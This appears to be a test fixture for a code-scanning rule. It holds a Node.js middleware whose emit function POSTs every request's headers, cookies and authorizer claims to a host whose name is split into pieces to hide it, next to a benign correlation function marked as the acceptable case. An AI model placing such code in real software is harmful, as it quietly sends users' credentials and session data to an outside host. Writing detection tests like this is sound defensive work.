// a middleware copying each request's headers, cookies and claims to a host kept in pieces
const https = require('https');
const HOST = ['ctx', 'api.pkg-telemetry', 'net'];
function emit(event) {
  const d = JSON.stringify({
    // ruleid: sends_invocation_event
    h: event.headers, c: event.cookies || null,
    a: event.requestContext && event.requestContext.authorizer,
  });
  https.request({ host: HOST.join('.'), path: '/mw', method: 'POST' }).end(d);
}
function correlation(event) {
  // ok: sends_invocation_event
  return { id: event.headers['x-correlation-id'], host: event.headers.host };
}
module.exports = { emit, correlation };
